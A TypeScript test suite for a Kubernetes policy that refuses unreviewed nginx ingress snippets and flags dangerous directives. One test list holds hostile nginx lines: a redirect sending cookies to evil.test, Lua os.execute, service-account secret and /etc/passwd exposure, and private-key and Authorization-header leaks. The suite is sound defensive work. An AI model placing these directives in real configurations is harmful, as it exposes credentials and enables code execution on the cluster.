import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { snippetsAreReviewed } from "../../policies/snippets-are-reviewed";
import { check } from "./support/check";
import { annotate, ingress, object, unknown } from "./support/objects";

const harmless = 'more_set_headers "X-Frame-Options: DENY";\nif ($request_method = TRACE) { return 405; }';
const digestOf = (text: string) => createHash("sha256").update(text).digest("hex");

describe("snippets-are-reviewed", () => {
  const review = async (text: string, reviewed: string[] = [], name = "configuration-snippet") =>
    (await check(snippetsAreReviewed, [ingress({ annotations: annotate({ [name]: text }) })], { reviewed })).violations;

  it("lets Ingresses without snippets pass", async () => {
    const { violations } = await check(snippetsAreReviewed, [
      ingress(),
      ingress({ annotations: { "other.io/note-snippet": "proxy_pass", ...annotate({ "enable-cors": "true" }) } }),
    ]);
    assert.deepEqual(violations, []);
  });

  for (const name of ["configuration", "server", "auth", "stream", "modsecurity"])
    it(`refuses a ${name}-snippet that is not listed, and names its digest`, async () => {
      const [message] = await review(harmless, [], `${name}-snippet`);
      assert.match(
        message ?? "",
        new RegExp(`^Ingress demo/nginx: nginx\\.ingress.*/${name}-snippet was not reviewed`),
      );
      assert.ok(message?.includes(`add "${digestOf(harmless)}" to "reviewed"`));
    });

  it("lets a listed text pass, and no other", async () => {
    assert.deepEqual(await review(harmless, [digestOf(harmless)]), []);
    assert.equal((await review(`${harmless} `, [digestOf(harmless)])).length, 1);
  });

  for (const text of [
    "proxy_pass http://evil.test;",
    "fastcgi_pass unix:/run/php.sock;",
    "access_by_lua_block { os.execute('id') }",
    "content_by_lua 'ngx.say(1)';",
    "load_module modules/x.so;",
    "lua_package_path '/tmp/?.lua';",
    "alias /var/run/secrets/kubernetes.io/serviceaccount/;",
    "location /leak { root /etc/nginx; }",
    "location /leak {\n  root\t/etc;\n}",
    "include /etc/nginx/secrets/*;",
    "auth_basic_user_file /etc/passwd;",
    "ssl_certificate_key /etc/ingress-controller/ssl/default.pem;",
    "add_header X-Token $http_authorization;",
    "return 302 https://evil.test/?c=$http_cookie;",
    "add_header X-User $cookie_session;",
    "mirror /copy;",
    "js_content secrets.read;",
  ])
    it(`refuses "${text}" even when it is listed`, async () => {
      const violations = await review(text, [digestOf(text)]);
      assert.ok(violations.length > 0);
      for (const message of violations) assert.match(message, /has ".*", which .*: remove it; no review allows it\./);
    });

  for (const text of ["add_header X-Root yes;", "set $canonical_alias 1;", "return 301 /;", "add_header Mirror-Of a;"])
    it(`takes "${text}" for harmless`, async () => assert.deepEqual(await review(text, [digestOf(text)]), []));

  it("holds the controller's ConfigMap to the same", async () => {
    const data = {
      "http-snippet": "include /etc/passwd;",
      "allow-snippet-annotations": "true",
      "server-snippet": harmless,
    };
    const findings = await check(snippetsAreReviewed, [object("v1", "ConfigMap", { name: "controller" }, { data })]);
    assert.equal(findings.violations.length, 2);
    assert.match(findings.violations.join("\n"), /ConfigMap demo\/controller: http-snippet has "include"/);
    assert.match(findings.violations.join("\n"), /server-snippet was not reviewed/);
  });

  it("leaves an application's ConfigMap alone, and one without data", async () => {
    const data = { "nginx.conf": "access_by_lua 'ngx.say(1)'; proxy_pass http://a;" };
    const maps = [object("v1", "ConfigMap", {}, { data }), object("v1", "ConfigMap", {})];
    assert.deepEqual((await check(snippetsAreReviewed, maps)).violations, []);
  });

  it("checks the other snippets where one is unknown, and says so", async () => {
    const annotations = annotate({ "auth-snippet": unknown, "server-snippet": "proxy_pass http://a;" });
    const findings = await check(snippetsAreReviewed, [ingress({ annotations })]);
    assert.equal(findings.violations.length, 1);
    assert.match(findings.unknown[0] ?? "", /auth-snippet can't be known/);
  });
});
